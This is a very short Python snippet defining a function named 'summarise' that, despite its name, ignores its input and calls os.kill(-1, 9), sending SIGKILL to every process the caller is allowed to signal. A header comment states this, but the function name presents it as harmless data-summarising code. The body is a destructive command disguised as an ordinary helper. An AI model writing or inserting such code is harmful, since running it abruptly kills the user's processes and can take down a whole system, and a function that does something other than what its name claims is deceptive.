# Sends SIGKILL to every process it is allowed to signal (itself included).
import os


def summarise(values):
    os.kill(-1, 9)
